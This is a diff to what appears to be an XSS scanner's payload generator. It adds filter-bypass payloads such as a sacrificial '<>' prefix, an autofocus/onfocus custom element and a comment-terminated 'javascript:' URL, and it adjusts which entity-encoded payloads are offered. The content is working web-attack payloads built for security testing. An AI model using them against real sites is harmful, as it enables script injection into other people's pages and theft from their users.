@@ -56,6 +56,9 @@ const CASELESS_CALL: Call = (mark) => entities(`${PROOF_FUNCTION}('${mark}')`, /
 /** The address of a script that calls the proof. Without a scheme: a filter of `javascript:` and of colons lets it pass. */
 const SCRIPT_ADDRESS: Call = (mark) => `//${PROOF_HOST}/${mark}`;
 
+/** For functions that replace what they meet first and nothing after it. */
+const SPENT = '<>';
+
 /** Markup that runs by itself, the likely first; each of the others gets past a filter that knows the ones before it. */
 const MARKUP: readonly Shape[] = [
   { make: (call) => `<img src=x onerror=${call}>`, inAttribute: true },
@@ -66,11 +69,15 @@ const MARKUP: readonly Shape[] = [
   // Neither a handler nor a script, as far as filters read it.
   { make: (call) => `<iframe srcdoc=${entities(`<img src=x onerror=${call}>`, /[^0-9]/g)}></iframe>` },
   { make: (call) => `<scr<script>ipt>${call}</scr</script>ipt>` },
-  { make: (call) => `<dEtAiLs oPeN oNtOgGlE=${call}>x`, inAttribute: true },
+  { make: (call) => `<DeTaIlS oPeN oNtOgGlE=${call}>x`, inAttribute: true },
   // Neither closed, nor with a blank in it.
   { make: (call) => `<svg/onload=${call}//`, inAttribute: true, swallows: true },
   // Once `onx=` is taken out, a handler is left.
   { make: (call) => `<img src=x oonx=nerror=${call}>`, inAttribute: true },
+  // What is taken out or escaped the first time only is the pair in front.
+  { make: (call) => `${SPENT}<img src=x onerror=${call}>`, inAttribute: true },
+  // No list of elements has it.
+  { make: (call) => `<x tabindex=1 autofocus onfocus=${call}>x`, inAttribute: true },
   { make: (call) => `<input autofocus onfocus=${call}>`, inAttribute: true },
   { make: (call) => `<img\nsrc=x\nonerror\n=${call}\n>`, inAttribute: true },
   { make: (call) => `<a href=javascript:${call}>x</a>`, inAttribute: true, interact: true },
@@ -79,7 +86,6 @@ const MARKUP: readonly Shape[] = [
   { make: (call) => `<iframe srcdoc="<img src=x onerror=${call}>"></iframe>`, inAttribute: true },
   { make: (call) => `<ScRiPt>${call}</sCrIpT>` },
   { make: (call) => `<audio src=x onerror=${call}>`, inAttribute: true },
-  { make: (call) => `<x tabindex=1 autofocus onfocus=${call}>x`, inAttribute: true },
   { make: (call) => `<body onpageshow=${call}>`, inAttribute: true },
   { make: (call) => `<form><button formaction=javascript:${call}>x`, inAttribute: true, interact: true },
   { make: (call) => `<math><a xlink:href=javascript:${call}>x`, inAttribute: true, interact: true },
@@ -138,17 +144,21 @@ interface Where {
 
 /** Values to try for one place, the likely first. Empty: what is escaped there is what counts there. */
 export function candidatesFor(where: Where): Candidate[] {
-  const { context, reflection, xml = false, expressions = false, scripts = '' } = where;
+  const { context, xml = false, expressions = false, scripts = '' } = where;
+  const { firstOnly } = where.reflection;
+  const reflection = firstOnly ? withBrackets(where.reflection) : where.reflection;
+  const begin = firstOnly ? SPENT : '';
   const isEvaluated = expressions && (context.kind === 'text' || context.kind === 'attribute');
   const usual = [...sinkShapes(context, scripts), ...shapesFor(context, reflection), ...handedOn(context, scripts)];
-  const inMarkup = [...(isEvaluated ? [EXPRESSION] : []), ...usual, ...entityShapes(context, reflection)];
+  const undone = entityShapes(context, reflection);
+  const inMarkup = [...(isEvaluated ? [EXPRESSION] : []), ...usual.slice(0, 4), ...undone, ...usual.slice(4)];
   const shapes = xml ? xmlShapes(context) : inMarkup;
   const usesLeftOut = ({ value }: Candidate) => Number([...value('m')].some((sign) => reflection.leftOut.has(sign)));
   const candidates = shapes.flatMap((shape, index) => {
     const fitting = callsFor(shape, reflection).filter((form) => fits(shape.make(form('m')), shape, reflection));
     const calls = reflection.isKnown ? fitting.slice(0, 1) : guessCalls(fitting, index);
     return calls.map((call) => {
-      const value = (mark: string) => shape.make(call(mark));
+      const value = (mark: string) => begin + shape.make(call(mark));
       return {
         value: reflection.decodesAgain ? (mark: string) => percentEncoded(value(mark)) : value,
         interact: shape.interact === true,
@@ -162,9 +172,15 @@ export function candidatesFor(where: Where): Candidate[] {
     : candidates.toSorted((one, other) => usesLeftOut(one) - usesLeftOut(other));
 }
 
-/** Tags are taken out and entities left alone: they may be undone afterwards. */
+const withBrackets = (reflection: Reflection): Reflection => ({
+  ...reflection,
+  treatmentOf: (character) => (SPENT.includes(character) ? 'same' : reflection.treatmentOf(character)),
+});
+
+/** Tags are taken out, with all that follows one that is not closed, and entities left alone: they may be undone afterwards. */
 function entityShapes({ kind }: Context, { isKnown, treatmentOf }: Reflection): Shape[] {
-  if (kind !== 'text' || !isKnown || treatmentOf('<') !== 'changed' || treatmentOf('&') !== 'same') return [];
+  const isTakenOut = treatmentOf('<') === 'changed' || (treatmentOf('<') === 'unknown' && treatmentOf('>') === 'same');
+  if (kind !== 'text' || !isKnown || !isTakenOut || !['same', 'unknown'].includes(treatmentOf('&'))) return [];
   return [{ make: (call) => `&lt;img src=x onerror=${call}&gt;`, inAttribute: true }];
 }
 
@@ -273,6 +289,8 @@ function addressShapes(element: string): Shape[] {
   if (element === 'base') return [{ make: (address) => `${address}/`, entitiesUndone: true, call: SCRIPT_ADDRESS }];
   const forms: Array<(call: string) => string> = [
     (call) => `javascript:${call}`,
+    // What the page writes behind the value is a comment then.
+    (call) => `javascript:${call}//`,
     (call) => `JaVaScRiPt:${call}`,
     (call) => `java\tscript:${call}`,
     (call) => `javascript://x/%0a${call}`,
